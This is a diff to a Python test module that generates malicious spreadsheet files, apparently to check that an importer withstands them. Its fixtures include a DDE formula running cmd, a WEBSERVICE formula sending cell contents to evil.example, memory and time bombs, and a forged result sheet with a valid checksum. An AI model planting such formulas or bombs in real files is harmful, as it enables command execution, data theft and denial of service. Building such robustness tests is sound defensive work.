@@ -16,6 +16,8 @@ from dataclasses import dataclass
 from functools import partial
 from pathlib import Path
 
+import hostile_xls
+
 Make = Callable[[Path], list[str]]
 
 MB = 1 << 20
@@ -328,6 +330,65 @@ def zip_password(folder: Path) -> list[str]:
     return xlsx(folder, sheet=Part(part.packed, part.claimed, part.crc, flags=1))
 
 
+def wrong_checksum(folder: Path) -> list[str]:
+    part = packed(sheet_xml(ROW))
+    return xlsx(folder, sheet=Part(part.packed, part.claimed, part.crc ^ 1))
+
+
+def tiny_strings(folder: Path) -> list[str]:
+    strings = STRINGS[:-6] + b"<si><t>a</t></si>" * 1_000_000 + b"</sst>"
+    return xlsx(folder, strings=strings)
+
+
+def many_styles_in_a_tag(folder: Path) -> list[str]:
+    """Cells whose tags are long, with a number format of money among their attributes."""
+    formats = '<numFmts><numFmt numFmtId="164" formatCode="[$€]0.00"/></numFmts>'
+    xfs = '<cellXfs><xf numFmtId="0"/><xf numFmtId="164"/></cellXfs>'
+    styles = f'{XML}<styleSheet xmlns="{MAIN}">{formats}{xfs}</styleSheet>'
+    noise = " ".join(f'a{i}="1"' for i in range(1_000))
+    cells = "".join(
+        f'<c r="A{n}" {noise} s="1"><v>1</v></c></row><row r="{n + 1}">' for n in range(2, 1_500)
+    )
+    return xlsx(folder, styles=styles.encode(), sheet=sheet_xml(f'{ROW}<row r="2">{cells}</row>'))
+
+
+def linked(folder: Path) -> list[str]:
+    """Formulas that run programs or fetch from elsewhere, with the results they had."""
+    rows = "".join(
+        f'<row r="{n}"><c r="A{n}" t="str"><f>{formula}</f><v>x{n}</v></c></row>'
+        for n, formula in enumerate(
+            ("cmd|'/C calc'!A0", "[1]Sheet1!A1", 'WEBSERVICE("http://evil.example/?"&amp;A1)'),
+            start=2,
+        )
+    )
+    link = f'{XML}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
+    args = xlsx(folder, sheet=sheet_xml(ROW + rows), properties=link.encode())
+    data = Path(args[0]).read_bytes().replace(b"docProps/custom.xml", b"xl/externalLink.xml")
+    return _written(folder, "bills.xlsx", data)
+
+
+def result(folder: Path, *more: tuple[str, ...]) -> list[str]:
+    """A result workbook, as far as its hidden sheet goes: its checksum is right, whatever it says."""
+    said = [("template", "light"), ("layout", "two_sheets"), ("sheet", "Bills"), *more]
+    check = zlib.crc32("\n".join("\t".join(row) for row in said).encode())
+    rows = "".join(
+        f'<row r="{n}">'
+        + "".join(
+            f'<c r="{letters(c)}{n}" t="inlineStr"><is><t>{text}</t></is></c>'
+            for c, text in enumerate(row, start=1)
+        )
+        + "</row>"
+        for n, row in enumerate([("By this sheet",), *said, ("check", f"{check:08x}")], start=1)
+    )
+    return xlsx(folder, sheet=sheet_xml(rows), book=BOOK.replace(b"Bills", b"light-import"))
+
+
+def encrypted(folder: Path) -> list[str]:
+    """As Excel writes with a password: a container with one part that is a secret."""
+    name = "EncryptedPackage".encode("utf-16-le") + b"\0\0"
+    return _written(folder, "bills.xlsx", hostile_xls.CONTAINER + bytes(1000) + name + bytes(500))
+
+
 def macros(folder: Path) -> list[str]:
     return xlsx(folder, "bills.xlsm", macros=b"\xd0\xcf\x11\xe0 Auto_Open " * 100)
 
@@ -613,6 +674,45 @@ def _hostile() -> Iterator[Hostile]:
     )
     yield Hostile("a part under a password", "–", zip_password, "password")
     yield Hostile("macros", "to run", macros, None)
+    yield Hostile("a checksum that is wrong", "to mislead", wrong_checksum, "damaged")
+    yield Hostile("a million shared texts of a letter", "time", tiny_strings, None)
+    yield Hostile("tags of a thousand attributes", "quadratic time", many_styles_in_a_tag, None)
+    yield Hostile("formulas of DDE and of other files", "to run, to fetch", linked, None)
+    yield Hostile("a workbook that is encrypted", "–", encrypted, "password")
+    yield Hostile(
+        "a result of endless rows",
+        "memory",
+        lambda folder: result(folder, ("rows", "1-999999999999")),
+        "was changed",
+    )
+    yield Hostile(
+        "XLS: names that double", "all memory from 2 KB", hostile_xls.names_that_double, None
+    )
+    yield Hostile(
+        "XLS: links at every cell", "all memory from 1 KB", hostile_xls.links_everywhere, None
+    )
+    yield Hostile(
+        "XLS: sheets in one place",
+        "400 MB from 1 MB",
+        hostile_xls.sheets_in_one_place,
+        "same place",
+    )
+    yield Hostile("XLS: 400,000 formats", "time", hostile_xls.many_formats, "formats")
+    yield Hostile(
+        "XLS: the last cell of every row", "16 million places", hostile_xls.last_cells, ""
+    )
+    yield Hostile(
+        "XLS: a long text shared often", "500 MB from 1 MB", hostile_xls.shared_often, "repeated"
+    )
+    yield Hostile(
+        "XLS: 3 million empty records", "time", hostile_xls.nothing_in_records, "no cells"
+    )
+    yield Hostile(
+        "XLS: every way to every part",
+        "no end from 9 KB",
+        hostile_xls.every_way_to_every_part,
+        "circle",
+    )
     yield Hostile(
         "ODS: a billion cells by repetition",
         "memory",
@@ -892,6 +992,7 @@ SLOW = frozenset(
     (
         "one wide row", "a cell of 90 MB", "a long formula shared often", "deep XML in the sheet",
         "an endless row", "XLSB: a long text shared often", "CSV: a line of 60 MB", "YAML: deep",
+        "a million shared texts of a letter", "XLS: the last cell of every row", "XLS: 3 million empty records",
         "CSV: a million odd words", "CSV: 16,000 unknown columns", "HTML: characters never closed",
         "deep XML in the strings", "rows never closed", "a pattern that is large", "HTML: tables in tables",
         "CSV: a word of 20 MB and one accent", "HTML: ends never closed", "HTML: sections never closed",
